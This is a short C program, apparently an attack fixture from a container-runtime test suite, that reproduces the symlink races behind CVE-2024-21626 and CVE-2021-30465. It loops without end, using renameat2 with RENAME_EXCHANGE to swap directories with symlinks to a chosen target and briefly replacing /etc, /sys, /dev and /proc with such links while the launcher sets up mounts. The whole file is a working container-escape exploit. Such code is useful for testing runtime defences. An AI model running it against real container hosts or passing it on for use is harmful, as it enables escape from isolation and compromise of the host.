// CVE-2024-21626 and CVE-2021-30465 as races: exchanges a directory with a link, without end, while the launcher enters
// directories and mounts file trees of this container.
#include <sys/stat.h>

#include "attack.h"

int main(int count, char** arguments) {
  if (count < 2) return 2;
  const char* target = arguments[1];
  static const char* const kNames[] = {"/app/work", "/tmp/work", "/app/dev", "/app/proc", "/app/etc"};
  static const char* const kSystem[] = {"/etc", "/sys", "/dev", "/proc", "/upper", "/tmp", "/app"};
  for (size_t i = 0; i < sizeof kNames / sizeof *kNames; ++i) {
    char link[64];
    snprintf(link, sizeof link, "%s.link", kNames[i]);
    if (mkdir(kNames[i], 0755) != 0 || symlink(target, link) != 0) return 2;
  }
  printf("racing\n");
  fflush(stdout);
  for (;;) {
    for (size_t i = 0; i < sizeof kNames / sizeof *kNames; ++i) {
      char link[64];
      snprintf(link, sizeof link, "%s.link", kNames[i]);
      renameat2(AT_FDCWD, kNames[i], AT_FDCWD, link, RENAME_EXCHANGE);
    }
    // Mount points themselves must not move; as root of the container all else in "/" may.
    for (size_t i = 0; i < sizeof kSystem / sizeof *kSystem; ++i) {
      char away[64];
      snprintf(away, sizeof away, "%s.away", kSystem[i]);
      if (rename(kSystem[i], away) != 0) continue;
      if (symlink(target, kSystem[i]) == 0) unlink(kSystem[i]);
      rename(away, kSystem[i]);
    }
  }
}
